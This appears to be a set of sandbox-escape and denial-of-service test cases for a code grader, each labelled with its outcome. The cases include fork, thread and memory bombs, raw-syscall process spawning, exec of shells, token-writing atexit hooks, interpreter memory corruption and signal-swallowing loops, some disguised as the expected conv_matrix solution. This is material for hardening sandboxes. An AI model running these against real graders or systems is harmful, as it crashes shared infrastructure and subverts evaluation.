# %% fork: marker left
def attack(): attempt(os.fork)

# %% vfork_by_number: marker left
def attack():
    if platform.machine() == "x86_64": enter(57, -1)

# %% clone_by_number: marker left
def attack(): enter(56, 220, ctypes.c_ulong(17), None, None, None, ctypes.c_ulong(0))

# %% clone3: marker left
def attack():
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
    enter(435, 435, arguments, ctypes.c_size_t(88))

# %% subprocess: marker left
import subprocess
def attack():
    attempt(subprocess.run, ["/bin/true"])
    attempt(subprocess.Popen, [sys.executable, "-c", "import time; time.sleep(600)"])
    attempt(os.posix_spawn, "/bin/true", ["true"], {})
    if os.system("true") == 0: won("system")

# %% exec: grader hung or dead
def attack():
    for program in (sys.executable, "/bin/sh", "/bin/true", "/usr/bin/su"):
        attempt(os.execv, program, [program])

# %% multiprocessing: marker left
import multiprocessing
def attack():
    for method in ("fork", "spawn"):
        attempt(lambda method=method: multiprocessing.get_context(method).Process(target=print).start())

# %% daemon: marker left
def attack():
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                import time
                time.sleep(600)
            os._exit(0)
        won("forked")
    except OSError: pass

# %% fork_bomb: grader hung or dead
def attack():
    for _ in range(1000):
        try: pid = os.fork()
        except OSError: continue
        if pid: won("forked")

# %% thread_bomb: grader hung or dead
import threading, time
def conv_matrix(W, width):
    try:
        for _ in range(5000): threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except Exception: pass

# %% busy_threads: grader hung or dead
import threading
def conv_matrix(W, width):
    def burn():
        while True: pass
    for _ in range(8): threading.Thread(target=burn, daemon=True).start()
    return 0

# %% memory_bomb: grader hung or dead
def conv_matrix(W, width):
    kept = []
    for _ in range(64): kept.append(np.ones(2**24))
    won("8 GiB")

# %% memory_bomb_shared: grader hung or dead
import mmap
def attack():
    kept = []
    try:
        for _ in range(64):
            kept.append(mmap.mmap(-1, 2**28))
            kept[-1].write(b"x" * 2**20)
    except (OSError, ValueError, MemoryError): return 0
    won("16 GiB")

# %% atexit: file written
import atexit, threading
def leave():
    for folder in FOLDERS:
        try: open(f"{folder}/{TOKEN}", "w")
        except OSError: pass
atexit.register(leave)
threading._register_atexit(leave)
sys.exitfunc = leave

# %% deep_recursion: grader hung or dead
sys.setrecursionlimit(10**9)
def conv_matrix(W, width): return max([1], key=lambda _: conv_matrix(W, width))

# %% null_pointer: grader hung or dead
def attack(): return ctypes.string_at(0)

# %% garbage_in_memory: grader hung or dead
def conv_matrix(W, width):
    ctypes.memset(id(np.ndarray), 0xFF, 64)
    return W + 1

# %% loop_at_import: grader hung or dead
while True: pass

# %% loop_that_swallows: grader hung or dead
import signal, time
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
def conv_matrix(W, width):
    while True:
        try:
            while True: time.sleep(1)
        except BaseException: pass

# %% loop_that_holds_the_interpreter: grader hung or dead
import re
def conv_matrix(W, width): re.match("(a+)+$", "a" * 60 + "b")

# %% loop_in_a_destructor: grader hung or dead
class Last:
    def __del__(self):
        while True: pass
def conv_matrix(W, width):
    Last()
    return 1

# %% stops_itself: grader hung or dead
import signal
def conv_matrix(W, width): os.kill(os.getpid(), signal.SIGSTOP)
